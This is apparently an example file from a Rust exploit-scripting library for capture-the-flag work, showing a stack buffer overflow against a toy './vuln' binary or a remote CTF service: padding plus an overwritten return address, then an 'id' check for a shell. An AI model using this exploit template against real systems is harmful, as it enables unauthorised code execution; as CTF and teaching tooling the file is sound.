//! Exploit script example: the standard target switches plus your own
//!
//! Flattens [`TargetArgs`] into the script's parser, so the same script can
//! run the target directly, under gdb in a new terminal window, or against a
//! remote service.
//!
//! # Usage
//!
//! ```bash
//! # local target
//! cargo run --example exploit_script -- ./vuln
//!
//! # under gdb: the target runs on a terminal gdb attaches to
//! cargo run --example exploit_script -- --gdb ./vuln
//!
//! # remote service
//! cargo run --example exploit_script -- --connect ctf.example:31337
//! ```

use clap::Parser;
use ferrotty::{Outcome, TargetArgs};

#[derive(Parser, Debug)]
struct Args {
    #[command(flatten)]
    target: TargetArgs,

    /// Bytes of padding before the return address
    #[arg(long, default_value_t = 40)]
    offset: usize,

    /// Return address to jump to
    #[arg(long, value_parser = parse_address, default_value = "0x401196")]
    address: u64,
}

fn parse_address(s: &str) -> Result<u64, String> {
    let digits = s.trim_start_matches("0x");
    u64::from_str_radix(digits, 16).map_err(|e| e.to_string())
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();

    let mut args = Args::parse();
    args.target.apply_defaults("./vuln", Vec::<String>::new());

    let mut target = args.target.target().await?;

    // Under --gdb, give the operator time to set breakpoints first.
    if args.target.gdb {
        target.prompt(Some("Attach gdb, then press ^] to run the exploit.")).await?;
    }

    target.try_expect("name? ").await?;

    let mut payload = vec![b'A'; args.offset];
    payload.extend_from_slice(&args.address.to_le_bytes());
    target.send_line(&payload).await?;

    target.send_line(b"id").await?;
    if let Outcome::Matched(_) = target.try_expect("uid=").await? {
        target.pwned().await?;
    }
    Ok(())
}
